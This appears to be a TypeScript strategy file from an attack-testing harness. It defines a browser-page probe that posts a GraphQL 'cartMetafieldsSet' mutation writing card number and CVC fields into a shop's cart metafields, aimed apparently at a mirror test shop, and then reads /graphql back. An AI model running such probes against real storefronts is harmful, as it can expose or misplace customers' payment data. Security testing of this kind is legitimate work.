import type { Strategy } from '#scripts/attack/strategy';

/** A mutation whose variables are keys and values of the caller's own. */
export const graphqlMutation: Strategy = {
  name: 'GraphQL mutation with keys of its own',
  channel: 'this tab',
  shops: ['mirror'],
  async run({ page }) {
    await page(`const query = 'mutation Set($fields: JSON!) { cartMetafieldsSet(fields: $fields) { id } }';
      const variables = { fields: { payment: { cardNumber: number, cvc: code } } };
      return said(await post('/graphql', JSON.stringify({ query, variables }), { 'content-type': 'application/json', ...json }));`);
    await page("return said(await fetch('/graphql', { headers: json }))");
  },
};
